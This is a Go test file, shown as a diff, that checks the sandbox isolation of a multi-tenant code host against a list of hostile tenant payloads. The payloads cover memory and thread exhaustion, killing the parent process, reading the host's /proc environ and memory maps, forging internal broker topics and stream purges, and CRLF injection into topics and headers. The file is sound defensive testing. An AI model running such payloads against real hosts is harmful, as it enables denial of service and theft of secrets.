@@ -1,0 +1,253 @@
+package host_test
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"runtime/debug"
+	"strconv"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/nats-io/nats.go/jetstream"
+	"github.com/pleme-io/lifecycle-go/fleet/broker"
+	"github.com/pleme-io/lifecycle-go/fleet/broker/brokertest"
+	"github.com/pleme-io/lifecycle-go/fleet/host"
+
+	"github.com/pleme-io/lifecycle-go/fleet/host/engine"
+	"github.com/pleme-io/lifecycle-go/fleet/host/engine/js"
+	"github.com/pleme-io/lifecycle-go/fleet/host/engine/python"
+	"github.com/pleme-io/lifecycle-go/fleet/host/engine/starlark"
+)
+
+// against is an attack on the host, on its memory, or on what belongs to another tenant, by code that a
+// tenant may bring. All of them run with HOST_ATTACKS=all, as "make chaos" does; otherwise those
+// that are brief. TestAttacksEndTheirChild and TestPythonReachesNothing of package isolate have the
+// attacks on the child.
+type against struct {
+	name, mime, code string
+	brief            bool
+	workers          int // at once; 0 is one
+}
+
+// inPython returns code whose handler runs body. The runner's own functions are in g: the child
+// believes what the code makes of them.
+func inPython(body string) string {
+	return "import os, threading, time, json\ng = fetch.__globals__\n" +
+		"g['limit_output'] = g['limit_outputs'] = g['limit_call'] = 1 << 40\ng['plain'] = lambda value, level=0: value\n" +
+		"def handle(message):\n    " + strings.ReplaceAll(body, "\n", "\n    ") + "\n"
+}
+
+func inJS(body string) string {
+	return "function handle(message) {\n" + body + "\n}"
+}
+
+const (
+	pythonCode   = "text/x-python"
+	jsCode       = "text/javascript"
+	starlarkCode = "text/x-starlark"
+)
+
+var attacksOnTheHost = []against{
+	// Answers that are larger than they may be, by a child that does not check them.
+	{name: "a large output", mime: pythonCode, code: inPython(`return "x" * (60 << 20)`), brief: true},
+	{name: "many outputs", mime: pythonCode, code: inPython(`return [{}] * 3000000`), brief: true},
+	{name: "many large outputs", mime: pythonCode, code: inPython(`return ["x" * (1 << 20)] * 60`)},
+	{name: "many headers", mime: pythonCode, code: inPython(`return {"data": "", "headers": {str(i): "x" for i in range(200000)}}`)},
+	{name: "a large header", mime: pythonCode, code: inPython(`return {"data": "", "headers": {"A": "x" * (30 << 20)}}`)},
+	{name: "a deep result", mime: pythonCode, code: inPython(`g["query"].send({"answer": {"result": json.loads("[" * 900 + "]" * 900)}})`)},
+	{name: "parts without end", mime: pythonCode, code: inPython("while True:\n    g['query'].send({'answer': {'result': 'x' * (60 << 10)}})"), brief: true},
+	{name: "large parts", mime: pythonCode, code: inPython("for i in range(16):\n    g['query'].send({'answer': {'result': 'x' * (60 << 20)}})")},
+	{name: "lines without end", mime: pythonCode, code: inPython("while True:\n    g['query'].send({'print': ''})"), brief: true},
+	{name: "large lines", mime: pythonCode, code: inPython("for i in range(100):\n    g['query'].send({'print': 'x' * (8 << 20)})")},
+	{name: "raw frames", mime: pythonCode, code: inPython("for fd in range(3, 20):\n    try:\n        os.write(fd, b'{\"a\":' + b'[' * (40 << 20) + b'\\n')\n    except OSError:\n        pass"), brief: true},
+	{name: "a frame without end", mime: pythonCode, code: inPython("while True:\n    for fd in range(3, 20):\n        try:\n            os.write(fd, b'x' * 65536)\n        except OSError:\n            pass")},
+	{name: "calls at once", mime: pythonCode, code: inPython("def put(i):\n    state.put(str(i), 'x' * (4 << 20))\nts = [threading.Thread(target=put, args=(i,), daemon=True) for i in range(32)]\n[t.start() for t in ts]\n[t.join() for t in ts]"), brief: true},
+	{name: "five at once", mime: pythonCode, code: inPython(`return ["x" * (1 << 20)] * 60`), workers: 5, brief: true},
+	{name: "five with parts", mime: pythonCode, code: inPython("while True:\n    g['query'].send({'answer': {'result': 'x' * (900 << 10)}})"), workers: 5},
+	{name: "a large error", mime: pythonCode, code: inPython(`raise Exception("x" * (50 << 20))`)},
+	{name: "a large reason", mime: pythonCode, code: inPython(`reject("x" * (50 << 20))`)},
+	{name: "half a character", mime: pythonCode, code: inPython(`return {"topic": "out.evil", "data": "\ud800"}`)},
+	{name: "no number", mime: pythonCode, code: inPython(`return float("nan")`)},
+	// State, timers and lines within and beyond their limits.
+	{name: "much state", mime: pythonCode, code: inPython("for i in range(8):\n    state.put(str(i), 'x' * (1000 << 10))")},
+	{name: "more state", mime: pythonCode, code: inPython("for i in range(600):\n    state.put(str(i), 'x' * (64 << 10))"), brief: true},
+	{name: "a large key", mime: pythonCode, code: inPython(`state.put("k" * (4 << 20), "x")`)},
+	{name: "a key with wildcards", mime: pythonCode, code: inPython("return str([state.get(k) for k in ('>', '*', '*.*', '../good', 'w-good.card')])"), brief: true},
+	{name: "many timers", mime: pythonCode, code: inPython("for i in range(200):\n    timers.set(str(i), 3600000, 'x' * (16 << 10))")},
+	{name: "many lines", mime: pythonCode, code: inPython("print('\\n' * 1000000)"), brief: true},
+	// The processor and the processes.
+	{name: "many threads", mime: pythonCode, code: inPython("threading.stack_size(32768)\nfor i in range(6000):\n    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()")},
+	{name: "sleepers", mime: pythonCode, code: inPython("time.sleep(1000)"), workers: 12},
+	{name: "the end of the host", mime: pythonCode, code: inPython("os.kill(os.getppid(), 9)"), brief: true},
+	{name: "the end of itself", mime: pythonCode, code: inPython("os._exit(0)")},
+	// What belongs to others.
+	{name: "the environment of the host", mime: pythonCode, code: inPython(`return open("/proc/%d/environ" % os.getppid()).read()`), brief: true},
+	{name: "the memory of the host", mime: pythonCode, code: inPython(`return open("/proc/%d/maps" % os.getppid()).read()`)},
+	{name: "the server", mime: pythonCode, code: inPython(`return fetch("http://127.0.0.1:4222/").text`)},
+	{name: "another tenant's secret", mime: pythonCode, code: inPython(`return fetch("https://example.com/", headers={"Authorization": "${CARD}"}).text`)},
+	{name: "a forged record", mime: starlarkCode, code: `def handle(m): return {"topic": "$KV.HOST_WORKERS.good", "data": "{}"}`, brief: true},
+	{name: "forged state", mime: starlarkCode, code: `def handle(m): return {"topic": "host.state.w-good.fence", "data": "99"}`, brief: true},
+	{name: "a forged log", mime: starlarkCode, code: `def handle(m): return {"topic": "host.log.w-good", "data": "{}"}`},
+	{name: "a purge", mime: starlarkCode, code: `def handle(m): return {"topic": "$JS.API.STREAM.PURGE.HOST_STATE", "data": ""}`},
+	{name: "a forged timer", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Lifecycle-Timer": "t", "Lifecycle-For": "w-good"}}`},
+	{name: "a topic with a line", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil\r\nPUB x 0", "data": "x"}`},
+	{name: "a header with a line", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"A\r\nB": "x\r\nC: y"}}`},
+	// The other languages.
+	{name: "many outputs in JavaScript", mime: jsCode, code: inJS(`return Array.from({length: 1e6}, () => ({}))`), brief: true},
+	{name: "a large output in JavaScript", mime: jsCode, code: inJS(`return "x".repeat(40 << 20)`)},
+	{name: "lines in JavaScript", mime: jsCode, code: inJS(`for (;;) console.log("")`)},
+	{name: "state in JavaScript", mime: jsCode, code: inJS(`for (let i = 0; ; i++) state.put("k" + i, "x".repeat(100000))`)},
+	{name: "many outputs in Starlark", mime: starlarkCode, code: `def handle(m): return [{}] * 1000000`},
+	{name: "state in Starlark", mime: starlarkCode, code: "def handle(m):\n    for i in range(10000): state.put(str(i), 'x' * 100000)"},
+	{name: "large code", mime: starlarkCode, code: "def handle(m): return 'x'\n" + strings.Repeat("# "+strings.Repeat("x", 997)+"\n", 30_000)},
+}
+
+// residentMemory returns the memory of this process.
+func residentMemory(t *testing.T) int64 {
+	t.Helper()
+	text, err := os.ReadFile("/proc/self/status")
+	if err != nil {
+		t.Skip("the test reads its memory from /proc, which is not here")
+	}
+	for line := range bytes.Lines(text) {
+		if rest, ok := bytes.CutPrefix(line, []byte("VmRSS:")); ok {
+			n, err := strconv.ParseInt(string(bytes.Fields(rest)[0]), 10, 64)
+			must(t, err)
+			return n << 10
+		}
+	}
+	t.Fatal("/proc/self/status has no VmRSS")
+	return 0
+}
+
+// TestAttacksOnTheHost runs attacks of one tenant beside a neighbour of another tenant. After each,
+// and during it, the neighbour answers within ten seconds. The attacker gets nothing of the
+// neighbour's, and the process of the host does not grow by more than 256 MiB.
+func TestAttacksOnTheHost(t *testing.T) {
+	const card = "card-4711-0815"
+	t.Setenv("HOST_TEST_CARD", card)
+	py, err := python.New()
+	if err != nil {
+		t.Skip(err)
+	}
+	engines, err := engine.NewRegistry(py, js.New(), starlark.New())
+	must(t, err)
+	// The servers have processes of their own, so that this one has the memory of the host alone.
+	servers := brokertest.StartCluster(t, 3)
+	r := rigOn(t, brokertest.Connect(t, broker.Config{URL: servers.URL()}), 1)
+	r.tune = func(c *host.Config) {
+		c.Engines = engines
+		c.MaxRetries, c.DrainTimeout = host.NoRetry, time.Second
+		c.MemoryBudget = 128 << 20
+		c.Limits = engine.Limits{Time: 3 * time.Second, Load: 30 * time.Second, Memory: 256 << 20}
+		c.Grants = map[string]host.Grant{"good": {Secrets: map[string]string{"CARD": "env:HOST_TEST_CARD"}}}
+	}
+	h := r.start("a")
+	create(t, h, host.Spec{
+		ID:          "good",
+		Tenant:      "good",
+		MIMEType:    jsCode,
+		Topic:       "work.good",
+		OutputTopic: "out.good",
+		Secrets:     []string{"CARD"},
+		Code:        []byte(`function handle(m) { state.put("card", env.CARD); return m.text }`),
+	})
+	work, err := r.js.Stream(t.Context(), "WORK")
+	must(t, err)
+	asked := 0
+	neighbour := func(when string) {
+		t.Helper()
+		began := time.Now()
+		asked++
+		r.publish("work.good", strconv.Itoa(asked))
+		r.eventually("the neighbour answers "+when, func() bool { return len(r.outputs("out.good")) >= asked })
+		if took := time.Since(began); took > 10*time.Second {
+			t.Errorf("%s the neighbour answered after %v", when, took)
+		}
+	}
+	neighbour("at rest")
+	debug.FreeOSMemory()
+	rest := residentMemory(t)
+	var most atomic.Int64
+	stop, stopped := make(chan struct{}), make(chan struct{})
+	go func() {
+		defer close(stopped)
+		for {
+			most.Store(max(most.Load(), residentMemory(t)))
+			select {
+			case <-stop:
+				return
+			case <-time.After(20 * time.Millisecond):
+			}
+		}
+	}()
+	defer func() {
+		close(stop)
+		<-stopped
+		grown := most.Load() - rest
+		t.Logf("the process has grown by %d MiB", grown>>20)
+		if grown > 256<<20 && !raceDetector {
+			t.Errorf("the process has grown by %d MiB", grown>>20)
+		}
+	}()
+	for i, a := range attacksOnTheHost {
+		if !a.brief && os.Getenv("HOST_ATTACKS") != "all" {
+			continue
+		}
+		t.Run(a.name, func(t *testing.T) {
+			before := most.Load()
+			var ids []string
+			for w := range max(1, a.workers) {
+				id := fmt.Sprintf("evil-%d-%d", i, w)
+				topic := "work." + id
+				_, err := h.Create(t.Context(), host.Spec{ID: id, Tenant: "evil", MIMEType: a.mime, Topic: topic, OutputTopic: "out.evil", Code: []byte(a.code)})
+				if err != nil {
+					t.Logf("Create: %.200v", err)
+					continue
+				}
+				ids = append(ids, id)
+				r.publish(topic, "1", "2")
+			}
+			neighbour("during the attack")
+			r.eventually("the attack is over", func() bool {
+				handled := 0
+				for _, tally := range h.Tallies() {
+					for _, id := range ids {
+						if tally.Worker == id {
+							handled += int(tally.Succeeded + tally.DeadLetters)
+						}
+					}
+				}
+				return handled >= 2*len(ids)
+			})
+			neighbour("after the attack")
+			for _, id := range ids {
+				must(t, h.Delete(t.Context(), id))
+				letters, err := h.DeadLetters(t.Context(), id, 0, 10)
+				must(t, err)
+				for _, l := range letters {
+					t.Logf("%.200s", l.Reason)
+				}
+			}
+			if now := most.Load(); now > before {
+				t.Logf("the process has grown by %d MiB", (now-rest)>>20)
+			}
+			for _, output := range r.outputs("out.evil") {
+				if strings.Contains(output, card) {
+					t.Errorf("it got the neighbour's: %.200q", output)
+				}
+			}
+			must(t, work.Purge(t.Context(), jetstream.WithPurgeSubject("out.evil")))
+		})
+	}
+	rec, err := h.Get(t.Context(), "good")
+	if err != nil || rec.State != host.StateRunning {
+		t.Errorf("the neighbour is %+v, %v", rec, err)
+	}
+	if letters, err := h.DeadLetters(t.Context(), "good", 0, 10); err != nil || len(letters) > 0 {
+		t.Errorf("dead letters of the neighbour: %v, %v", letters, err)
+	}
+}
